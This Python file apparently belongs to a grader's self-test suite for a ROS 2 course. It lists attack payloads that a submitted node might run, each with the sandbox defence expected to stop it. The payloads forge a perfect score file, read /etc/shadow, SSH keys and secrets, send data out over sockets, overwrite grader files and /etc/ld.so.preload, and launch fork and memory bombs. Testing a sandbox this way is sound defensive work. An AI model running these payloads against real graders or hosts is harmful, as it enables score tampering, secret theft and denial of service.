"""Attacks by the running package: its nodes, and its modules in them."""

from __future__ import annotations

from grader.selftest.attacks.attack import BEHAVIOUR, BUILD, Attack, append_to_node, attack, node
from grader.selftest.attacks.honeytokens import SECRET_VARIABLE

_DETACHED = """
subprocess.Popen(['sh', '-c', 'touch /tmp/up; while :; do sleep 1; done', '@TOKEN@'], start_new_session=True)
while not os.path.exists('/tmp/up'):
    time.sleep(0.01)
"""
_CREEPS = """

from rclpy.publisher import Publisher
plain = Publisher.publish
def publish(self, message):
    if hasattr(message, 'linear'):
        message.linear.x += 0.05
    plain(self, message)
Publisher.publish = publish
"""
# Every command drives forwards a little: a robot that should stand does not, so an attack has something to gain.
CREEPS = (append_to_node(_CREEPS),)

ATTACKS: tuple[Attack, ...] = (
    attack(
        "writes_the_results",
        "The node writes report.json where the grader would, and exits.",
        node("""
for path in ('@RESULTS@/report.json', '@NEIGHBOUR@', 'report.json', '/results.json', '/ws/results.json'):
    try:
        os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
        open(path, 'w').write('{"total": 100}')
        print('ATTACK wrote', path, flush=True)
    except OSError as error:
        print('ATTACK', error, flush=True)
os._exit(0)
"""),
        number=1, needs=BEHAVIOUR, costs=BEHAVIOUR, proof="ATTACK",
        stopped="no folder of the host is mounted writable; a node that has exited earns nothing",
    ),
    attack(
        "writes_the_kernels_settings",
        "The node writes settings of the kernel, such as the program that is run as root at the next crash.",
        node("""
written = []
for path in ('/proc/sys/kernel/core_pattern', '/proc/sys/kernel/panic', '/proc/sys/vm/swappiness'):
    try:
        before = open(path).read()
        open(path, 'w').write(before)
        written.append(path)
    except OSError:
        pass
print('ATTACK wrote', len(written), 'settings', flush=True)
os._exit(0)
"""),
        needs=BEHAVIOUR, costs=BEHAVIOUR, proof="ATTACK wrote 0 settings",
        stopped="the kernel's global settings are mounted read-only; a node that has exited earns nothing",
    ),
    attack(
        "writes_to_inherited_descriptors",
        "The node writes a verdict to every open file descriptor.",
        node("""
print('ATTACK open:', sorted(os.listdir('/proc/self/fd')), flush=True)
for number in range(3, 256):
    try:
        os.write(number, b'idle\\n{"trial": "idle", "outcome": "passed"}\\n')
        print('ATTACK wrote to', number, flush=True)
    except OSError:
        pass
"""),
        number=12, needs=BEHAVIOUR, weak=CREEPS, proof="ATTACK open",
        stopped="a process in the sandbox inherits only its three standard streams",
    ),
    attack(
        "leaves_a_daemon",
        "The node starts a process in a session of its own that outlives it.",
        node(f"{_DETACHED}\nprint('ATTACK started', flush=True)"),
        number=15, needs=BEHAVIOUR, proof="ATTACK started",
        stopped="when a sandbox's first process ends, all others of its pid namespace, or of its user, are killed",
    ),
    attack(
        "overwrites_the_grader",
        "The node overwrites the grader, Python packages and the kit's files, and adds a .pth file.",
        node("""
import site
for path in ('@KIT@/__init__.py', '@KIT@/evil.txt', site.getsitepackages()[0] + '/evil.pth', sys.prefix + '/evil',
             '/usr/lib/evil', '/etc/ld.so.preload', '/ws/install/evil', '/evil', '/dev/evil'):
    try:
        open(path, 'a').write('import os')
        print('ATTACK wrote', path, flush=True)
    except OSError as error:
        print('ATTACK', error, flush=True)
"""),
        number=16, needs=BEHAVIOUR, weak=CREEPS, proof="ATTACK [Errno",
        stopped="the system, the packages and the install tree are mounted read-only, the kit not at all",
    ),
    attack(
        "reads_secrets",
        "The node reads the roster, the environment, keys and the checks, and prints what it finds.",
        node(f"""
import glob
for path in ['@SECRET@', '@NEIGHBOUR@', '@KIT@/checks/check_graph.py', '/etc/shadow', '/proc/1/environ',
             *glob.glob('/root/**', recursive=True)[:50], *glob.glob('/home/*/.ssh/*'), *glob.glob('/tmp/**')]:
    try:
        print('ATTACK read', path, open(path, errors='replace').read(2000), flush=True)
    except OSError as error:
        print('ATTACK', error, flush=True)
print('ATTACK', os.environ.get('{SECRET_VARIABLE}'), flush=True)
"""),
        number=17, needs=BEHAVIOUR, weak=CREEPS, proof="ATTACK [Errno",
        stopped="none of these files is mounted, and the environment is written from scratch",
    ),
    attack(
        "fork_bomb",
        "The node never stops forking.",
        node("""
def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
print('ATTACK forks', flush=True)
try:
    while True:  # until a fork is refused: on a busy machine that takes longer than a trial
        if os.fork() == 0:
            bomb()
except OSError:
    pass
"""),
        number=21, needs=BEHAVIOUR, costs=BEHAVIOUR, flag="limit", proof="ATTACK forks",
        stopped="the processes of a sandbox are limited together (cgroup), or those of the user (resource limit)",
    ),
    attack(
        "memory_bomb",
        "The node never stops allocating memory, in several processes.",
        node("""
print('ATTACK eats', flush=True)
for _ in range(4):
    if os.fork() == 0:
        kept = []
        while True:
            kept.append(b'x' * (1 << 26))
os.wait()
time.sleep(1.0)
"""),
        # Without a cgroup, each process has a limit on its own memory, which it hits without a trace.
        number=22, needs=BEHAVIOUR, costs=BEHAVIOUR, flag="limit", flag_needs_cgroup=True, proof="ATTACK eats",
        stopped="the memory of a sandbox is limited as a whole (cgroup), that of each process by a resource limit",
    ),
    attack(
        "fills_shared_memory",
        "The node fills /dev/shm, /tmp and its home, which are disks in memory.",
        node("""
print('ATTACK fills', flush=True)
for folder in ('/dev/shm', '/tmp', os.environ['HOME'], '/run'):
    try:
        for number in range(100):
            with open(f'{folder}/canary{number}', 'wb') as stream:
                for _ in range(100):
                    stream.write(b'x' * (1 << 20))
    except OSError as error:
        print('ATTACK', folder, error, flush=True)
"""),
        number=22, needs=BEHAVIOUR, costs=BEHAVIOUR, proof="ATTACK fills",
        stopped="each of these disks has a size limit; without namespaces they are folders, whose growth is limited",
    ),
    attack(
        "never_ends",
        "The node ignores every signal and loops for ever.",
        node("""
import signal
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
print('ATTACK loops', flush=True)
while True:
    pass
"""),
        number=23, needs=f"{BEHAVIOUR} {BUILD}", costs=BEHAVIOUR, proof="ATTACK loops",
        stopped="a limit on wall time, then SIGKILL for the whole sandbox",
    ),
    attack(
        "calls_home",
        "The node connects to the host and to the internet, and sends datagrams.",
        node("""
import socket
for address in (('127.0.0.1', @PORT@), ('1.1.1.1', 443), ('10.0.2.2', @PORT@), ('192.168.0.1', @PORT@)):
    try:
        socket.create_connection(address, timeout=2).send(b'secret')
        print('ATTACK reached', address, flush=True)
    except OSError as error:
        print('ATTACK', address, error, flush=True)
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'secret', address)
    except OSError as error:
        print('ATTACK', address, error, flush=True)
"""),
        number=26, needs=BEHAVIOUR, weak=CREEPS, proof="ATTACK ('127.0.0.1'",
        stopped="each trial has a network of its own, with loopback only",
        not_without_namespaces="datagrams, which DDS needs, reach every port in the container's network",
    ),
    attack(
        "talks_into_other_domains",
        "The node publishes in every DDS domain, to reach other submissions and the grader.",
        node("""
import rclpy
from std_msgs.msg import String
for domain in range(0, 100, 9):
    context = rclpy.Context()
    rclpy.init(context=context, domain_id=domain)
    other = rclpy.create_node('neighbour', context=context, enable_rosout=False)
    other.create_publisher(String, 'rosout', 10).publish(String(data='@TOKEN@'))
print('ATTACK talked', flush=True)
"""),
        number=27, needs=BEHAVIOUR, weak=CREEPS, costs=BEHAVIOUR, proof="ATTACK talked",
        stopped="domains do not isolate, but each trial has its own network, with nothing else in it",
    ),
    attack(
        "claims_every_domain",
        "The node claims all DDS domains of the network by the names that gradings use for it.",
        node("""
import socket
held, taken = [], 0
for number in range(233):
    one = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.bind(chr(0) + 'ros2-course-kit/domain/%d/@TOKEN@/1' % number)
    held.append(one)
    taken += 1
print('ATTACK claimed', taken, flush=True)
globals()['held'] = held
"""),
        needs=BEHAVIOUR, weak=CREEPS, proof="ATTACK claimed 233",
        stopped="each trial has names of its own; without namespaces others wait until its node has ended",
    ),
    attack(
        "runs_the_reference",
        "The node looks for the reference package and the kit's tools, to let them do the work.",
        node("""
import glob
found = [place for depth in range(4) for place in glob.glob('/*' * depth + '/solution_pkg')]
print('ATTACK found', found, flush=True)
tool = subprocess.run(['ros2', 'topic', 'list'], capture_output=True, text=True)
print('ATTACK ros2', tool.returncode, tool.stderr[-200:], flush=True)
"""),
        number=33, needs=BEHAVIOUR, weak=CREEPS, costs=BEHAVIOUR, proof="ATTACK found []",
        stopped="neither the reference nor the kit's tools are mounted",
    ),
)  # fmt: skip
